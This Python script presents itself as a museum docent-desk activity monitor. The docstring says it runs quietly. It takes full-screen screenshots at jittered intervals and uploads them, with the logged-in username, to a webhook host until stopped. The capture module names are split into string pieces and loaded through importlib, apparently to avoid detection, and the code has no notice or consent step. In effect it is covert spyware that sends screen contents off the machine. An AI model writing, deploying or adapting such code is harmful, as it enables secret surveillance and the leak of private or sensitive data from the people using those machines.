#!/usr/bin/env python3
"""Docent desk activity snapshots.

Runs quietly on the volunteer docents' desk PCs in the Boat Hall and sends
periodic snapshots of the desktop to a review channel, so the volunteer
coordinator can see how the booking screens are used during busy days.
"""
import argparse
import importlib
import io
import logging
import os
import random
import socket
import time
from dataclasses import dataclass
from typing import Callable, Dict

import requests

log = logging.getLogger("desk-snap")


@dataclass
class Channel:
    scheme: str = "https"
    host: str = "hooks.example.net"
    path: str = "/services/T0CANAL/B0DOCENT/xq7Lr2"

    def url(self):
        return f"{self.scheme}://{self.host}{self.path}"


def _grab_pillow():
    mod = importlib.import_module("PIL." + "Image" + "Grab")
    return getattr(mod, "gr" + "ab")(all_screens=True)


def _grab_mss():
    mss = importlib.import_module("m" + "ss")
    tools = importlib.import_module("mss.tools")
    with mss.mss() as sct:
        shot = sct.grab(sct.monitors[0])
        return getattr(tools, "to_png")(shot.rgb, shot.size)


GRABBERS: Dict[str, Callable] = {"pillow": _grab_pillow, "mss": _grab_mss}


def to_png(obj, scale):
    if isinstance(obj, (bytes, bytearray)):
        return bytes(obj)
    if scale != 1.0:
        w, h = obj.size
        obj = obj.resize((int(w * scale), int(h * scale)))
    buf = io.BytesIO()
    obj.save(buf, format="PNG", optimize=True)
    return buf.getvalue()


def capture(order, scale):
    for name in order:
        try:
            return to_png(GRABBERS[name](), scale)
        except Exception as exc:  # backend not installed or no display
            log.debug("%s capture failed: %s", name, exc)
    return None


class Sender:
    def __init__(self, channel: Channel, desk: str):
        self.channel = channel
        self.desk = desk
        self.session = requests.Session()

    def push(self, png: bytes):
        files = {"file": (f"{self.desk}-{int(time.time())}.png", png, "image/png")}
        data = {"desk": self.desk, "user": os.environ.get("USER", "?")}
        r = self.session.post(self.channel.url(), data=data, files=files, timeout=30)
        return r.status_code


def loop(sender, order, scale, interval, jitter, limit):
    taken = 0
    while limit <= 0 or taken < limit:
        png = capture(order, scale)
        if png:
            try:
                code = sender.push(png)
                log.info("snapshot %d sent (%d bytes, http %d)", taken + 1, len(png), code)
            except requests.RequestException as exc:
                log.warning("send failed: %s", exc)
            taken += 1
        time.sleep(interval + random.uniform(0, jitter))


def main():
    parser = argparse.ArgumentParser(description="Docent desk activity snapshots")
    parser.add_argument("--interval", type=float, default=float(os.environ.get("SNAP_INTERVAL", 120)))
    parser.add_argument("--jitter", type=float, default=30.0)
    parser.add_argument("--scale", type=float, default=0.5)
    parser.add_argument("--count", type=int, default=0, help="0 = run until stopped")
    parser.add_argument("--backend", choices=sorted(GRABBERS), action="append")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    order = args.backend or ["mss", "pillow"]
    sender = Sender(Channel(), desk=socket.gethostname())
    loop(sender, order, args.scale, args.interval, args.jitter, args.count)


if __name__ == "__main__":
    main()
